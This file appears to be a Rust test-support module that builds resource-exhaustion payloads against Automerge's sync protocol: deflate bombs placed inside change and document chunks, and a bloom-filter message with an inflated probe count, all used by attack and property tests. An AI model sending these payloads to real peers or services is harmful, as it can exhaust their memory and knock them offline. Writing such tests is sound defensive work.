//! Hostile sync payloads, built cheaply, for the attack tests and the
//! decoder's property tests: what a peer can send to make Automerge
//! allocate far more than the message's size.

use automerge::sync::{self, ChunkList, MessageVersion};

const MAGIC: [u8; 4] = [0x85, 0x6f, 0x4a, 0x83];

/// Longest back-reference deflate allows.
const RUN: usize = 258;

/// A raw deflate stream that inflates to zeros, at least `len` of them
/// (one literal, then back-references of 258 bytes at distance 1):
/// 13 bits per 258 bytes, so 1 MB inflates to about 160 MB.
pub fn deflate_zeros(len: usize) -> Vec<u8> {
    let mut bits = BitWriter::default();
    bits.put(1, 1); // final block
    bits.put(1, 2); // fixed Huffman codes
    bits.huffman(0b0011_0000, 8); // literal 0
    for _ in 0..len.saturating_sub(1).div_ceil(RUN) {
        bits.huffman(0b1100_0101, 8); // length code 285: 258 bytes
        bits.huffman(0, 5); // distance code 0: 1 byte back
    }
    bits.huffman(0, 7); // end of block
    bits.finish()
}

/// A chunk of `kind` around `data`, with a checksum that does not match
/// (Automerge inflates before it checks).
pub fn chunk(kind: u8, data: &[u8]) -> Vec<u8> {
    let mut out = MAGIC.to_vec();
    out.extend_from_slice(&[0xde, 0xad, 0xbe, 0xef, kind]);
    uleb(&mut out, data.len() as u64);
    out.extend_from_slice(data);
    out
}

/// A compressed change chunk (type 2) that inflates to `len` bytes.
pub fn compressed_change_bomb(len: usize) -> Vec<u8> {
    chunk(2, &deflate_zeros(len))
}

/// A document chunk (type 0) whose one deflated column inflates to `len`.
pub fn document_column_bomb(len: usize) -> Vec<u8> {
    let column = deflate_zeros(len);
    let mut data = Vec::new();
    uleb(&mut data, 0); // actors
    uleb(&mut data, 0); // heads
    uleb(&mut data, 1); // one change column…
    uleb(&mut data, (1 << 4) | 0b1000); // …id 1, deflated
    uleb(&mut data, column.len() as u64);
    uleb(&mut data, 0); // no op columns
    data.extend_from_slice(&column);
    chunk(0, &data)
}

/// A sync message carrying `changes` as they are.
pub fn sync_message(changes: Vec<Vec<u8>>) -> Vec<u8> {
    sync_message_at(Vec::new(), changes)
}

/// A sync message claiming `heads`, carrying `changes` as they are.
pub fn sync_message_at(heads: Vec<automerge::ChangeHash>, changes: Vec<Vec<u8>>) -> Vec<u8> {
    sync::Message {
        heads,
        need: Vec::new(),
        have: Vec::new(),
        changes: ChunkList::from(changes),
        flags: None,
        version: MessageVersion::V1,
    }
    .encode()
}

/// A sync message whose bloom filter asks for `probes` probes per hash
/// (Automerge allocates them all for every change it considers sending).
pub fn bloom_probe_bomb(probes: u32) -> Vec<u8> {
    let mut bloom = Vec::new();
    uleb(&mut bloom, 1); // entries
    uleb(&mut bloom, 10); // bits per entry
    uleb(&mut bloom, u64::from(probes));
    bloom.extend_from_slice(&[0xff, 0xff]);
    let mut out = vec![0x42];
    uleb(&mut out, 0); // heads
    uleb(&mut out, 0); // need
    uleb(&mut out, 1); // one have…
    uleb(&mut out, 0); // …with no last-sync heads
    uleb(&mut out, bloom.len() as u64);
    out.extend_from_slice(&bloom);
    uleb(&mut out, 0); // changes
    out
}

fn uleb(out: &mut Vec<u8>, mut value: u64) {
    loop {
        let byte = (value & 0x7f) as u8;
        value >>= 7;
        if value == 0 {
            out.push(byte);
            return;
        }
        out.push(byte | 0x80);
    }
}

/// Deflate's bit order: fields least significant bit first, Huffman
/// codes most significant bit first.
#[derive(Default)]
struct BitWriter {
    out: Vec<u8>,
    current: u8,
    used: u8,
}

impl BitWriter {
    fn bit(&mut self, bit: bool) {
        if bit {
            self.current |= 1 << self.used;
        }
        self.used += 1;
        if self.used == 8 {
            self.out.push(self.current);
            self.current = 0;
            self.used = 0;
        }
    }

    fn put(&mut self, value: u32, len: u8) {
        for index in 0..len {
            self.bit(value >> index & 1 == 1);
        }
    }

    fn huffman(&mut self, code: u32, len: u8) {
        for index in (0..len).rev() {
            self.bit(code >> index & 1 == 1);
        }
    }

    fn finish(mut self) -> Vec<u8> {
        if self.used > 0 {
            self.out.push(self.current);
        }
        self.out
    }
}
